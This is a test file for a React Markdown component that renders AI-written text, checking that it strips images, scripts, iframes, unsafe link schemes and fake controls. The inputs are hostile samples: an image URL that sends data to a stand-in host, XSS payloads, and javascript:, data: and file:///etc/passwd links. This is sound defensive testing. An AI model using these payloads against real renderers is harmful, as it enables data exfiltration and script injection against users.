import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from './Markdown.tsx';

afterEach(cleanup);
const drawn = (text: string): HTMLElement => render(<Markdown text={text} />).container;

describe('what a model wrote', () => {
  it('keeps emphasis, lists, tables and code', () => {
    const page = drawn('**Done**\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n`code`');
    const missing = ['strong', 'li', 'table', 'code'].filter((tag) => !page.querySelector(tag));
    expect(missing).toEqual([]);
  });

  it('loads no image, and says what it would have shown', () => {
    const page = drawn('![the chart](https://evil.example/?stolen=1)\n\n<img src="https://evil.example/x">');
    expect(page.querySelector('img, picture, source')).toBeNull();
    expect(page.innerHTML).not.toContain('evil.example/?');
    expect(page.textContent).toContain('the chart');
  });

  it('runs nothing', () => {
    const page = drawn('<script>alert(1)</script><b onclick="alert(1)">x</b><iframe src="//evil.example"></iframe>');
    expect(page.querySelector('script, iframe, [onclick]')).toBeNull();
  });

  it('links to the web and to mail, without telling the other side where from', () => {
    const links = [...drawn('[a](https://a.example) [b](mailto:b@b.example)').querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://a.example', 'mailto:b@b.example']);
    for (const link of links) expect(link.getAttribute('rel')).toContain('noopener');
  });

  it.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd', 'JaVaScRiPt:alert(1)'])(
    'does not link to %s',
    (address) => {
      const page = drawn(`[click](${address})`);
      expect(page.querySelector('a')).toBeNull();
      expect(page.textContent).toContain('click');
    },
  );

  it('has no control that could be mistaken for Baton’s own', () => {
    expect(
      drawn('- [x] done\n\n<button>Approve</button><form></form>').querySelector('input, button, form'),
    ).toBeNull();
  });
});
